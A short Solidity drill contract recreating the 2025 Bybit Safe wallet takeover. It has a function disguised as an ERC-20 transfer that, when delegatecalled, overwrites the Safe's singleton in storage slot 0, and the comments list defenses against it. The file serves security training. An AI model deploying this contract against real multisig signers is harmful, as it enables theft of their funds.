// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @title SafeUpgradeTrap - the Bybit 2025 trap (drill material)
/// @notice To the signers it looks like a token: the Safe transaction they
/// are shown is `transfer(to, 0)` on some contract, harmless as a CALL. But
/// the transaction's operation is 1, DELEGATECALL, so this code runs in the
/// Safe's own storage, and it writes `to` into slot 0: a Safe proxy keeps
/// its singleton (the implementation every call is delegated to) in slot 0.
/// Once the signatures execute, the Safe runs whatever `to` is, typically
/// BackdoorSingleton, and the attacker drains it in the next transaction.
/// In February 2025 Bybit's cold-wallet Safe lost about 400,000 ETH this
/// way, after the attackers had compromised the signing UI so that the
/// signers saw a routine transfer.
///
/// @dev DRILL CONTRACT. What should have stopped it: never sign a
/// DELEGATECALL (operation 1) to anything but a known library such as
/// MultiSend; check the raw operation and target on a second device, not
/// the UI's summary; and a Safe guard that refuses delegatecalls.
contract SafeUpgradeTrap {
    /// @notice Looks like ERC-20 transfer (same selector, 0xa9059cbb).
    /// Delegatecalled by a Safe, it makes `to` the Safe's singleton.
    /// @param to The new singleton, written to storage slot 0.
    /// @param value Ignored: it is there to look like a transfer.
    function transfer(address to, uint256 value) external {
        value; // unused, by design
        assembly {
            sstore(0, to)
        }
    }
}
